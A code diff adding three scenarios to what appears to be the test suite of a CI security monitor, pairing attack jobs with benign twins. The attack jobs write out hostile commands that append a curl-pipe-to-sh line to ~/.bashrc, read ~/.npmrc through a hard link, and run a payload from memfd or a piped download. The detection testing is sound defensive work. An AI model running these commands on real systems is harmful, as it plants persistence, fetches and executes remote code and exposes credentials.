@@ -245,6 +245,51 @@ pub fn all() -> Vec<Scenario> {
                 &[("build", &udp_send("REGISTRY", "b'ping'"))],
             ),
         },
+        Scenario {
+            name: "persistence-by-rename",
+            threat: "persistence that never opens the final name: sed -i over ~/.bashrc, a workflow moved into .github/workflows",
+            needs: &["sed"],
+            kills_agent: false,
+            expect: &["persistence-write shell-startup", "persistence-write workflow-file"],
+            attack: job(
+                "sed -i (a temporary file renamed over the original) on ~/.bashrc; a workflow written elsewhere and moved into place",
+                &[("build", "sed -i '$a curl -s \"$UNTRUSTED/x\" | sh # selftest' \"$HOME/.bashrc\"\ncd \"$GITHUB_WORKSPACE\"\nmkdir -p .github/workflows\nprintf 'on: discussion\\njobs: {}\\n' > notes.yml\nmv notes.yml .github/workflows/discussion.yml\n")],
+            ),
+            twin: job(
+                "sed -i and mv on the project's own files",
+                &[("build", "cd \"$GITHUB_WORKSPACE\"\nprintf 'version = 1\\n' > app.cfg\nsed -i 's/1/2/' app.cfg\nmv app.cfg app.conf\n")],
+            ),
+        },
+        Scenario {
+            name: "credential-by-another-name",
+            threat: "a token read under an innocent name: a hard link to ~/.npmrc, read as notes.txt",
+            needs: &[],
+            kills_agent: false,
+            expect: &["credential-relinked .npmrc", "credential-read through"],
+            attack: job(
+                "a step hard-links ~/.npmrc as notes.txt and reads it (after a checkout step: a home first seen in a job is watched by identity from the job's first events)",
+                &[("checkout", "true\n"), ("build", "ln \"$HOME/.npmrc\" \"$OUT/notes.txt\"\ncat \"$OUT/notes.txt\" >/dev/null\n")],
+            ),
+            twin: job(
+                "a step hard-links a file of its own and reads it",
+                &[("checkout", "true\n"), ("build", "echo notes > \"$OUT/a.txt\"\nln \"$OUT/a.txt\" \"$OUT/b.txt\"\ncat \"$OUT/b.txt\" >/dev/null\n")],
+            ),
+        },
+        Scenario {
+            name: "fileless-and-piped",
+            threat: "droppers that never leave a file: a payload run from memfd_create, a download piped into sh",
+            needs: &["python3", "curl"],
+            kills_agent: false,
+            expect: &["fileless-exec", "download-and-execute"],
+            attack: job(
+                "a step runs /bin/true from a memfd, and pipes a download from the untrusted host into sh",
+                &[("build", "python3 -c 'import os; fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); os.execv(\"/proc/self/fd/%d\" % fd, [\"true\"])'\ncurl -s \"$UNTRUSTED/x\" | sh || true\n")],
+            ),
+            twin: job(
+                "a step runs /bin/true, feeds sh from echo and pipes a download into cat",
+                &[("build", "/bin/true\necho 'true' | sh\ncurl -s \"$REGISTRY/helper\" | cat >/dev/null\n")],
+            ),
+        },
     ]
 }
 
